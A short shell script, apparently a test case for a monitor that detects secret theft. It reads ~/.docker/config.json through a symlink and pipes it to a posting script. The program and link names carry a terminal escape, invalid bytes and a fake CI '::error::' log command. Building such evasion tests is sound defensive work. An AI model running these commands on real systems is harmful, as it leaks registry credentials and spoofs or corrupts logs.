# Steals with a program whose name is a line feed, a terminal's command, a byte that is no UTF-8, and what a CI log takes
# for a command; by a link of that name, in a directory of that name. Leaves such a name in the home before.
odd=$(printf 'a\n\033[2J\377"\\\n::error::b')
: >"$HOME/$odd"
mkdir "$odd" && cp "$(command -v cat)" "$odd/$odd" && ln -s "$HOME/.docker/config.json" "$odd/link$odd"
"$odd/$odd" "$odd/link$odd" | node post-stdin.js
true
